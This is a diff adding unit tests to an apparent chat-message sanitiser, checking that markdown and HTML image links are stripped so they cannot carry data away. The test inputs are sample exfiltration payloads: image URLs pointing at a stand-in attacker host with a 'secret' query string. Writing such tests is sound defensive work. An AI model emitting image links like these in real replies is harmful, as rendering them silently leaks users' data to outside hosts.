@@ -28,3 +28,12 @@ test('markdown does not leak into a chat', () => {
 test.each(['', ' \n\n ', '\n'])('nothing stays nothing, for the caller to refuse', (text) => {
   expect(toBubbles(text)).toEqual([]);
 });
+
+test.each([
+  ['Here: ![map](https://evil.example/?q=secret)', 'Here: map'],
+  ['Here: ![map](https://evil.example/?q=cut', 'Here: map'],
+  ['Here: ![map][1]', 'Here: map'],
+  ['Here: <img src="https://evil.example/?q=secret">', 'Here:'],
+])('a picture in "%s" loses its address, and with it what it would carry away (CO-11)', (text, left) => {
+  expect(toBubbles(text)).toEqual([left]);
+});
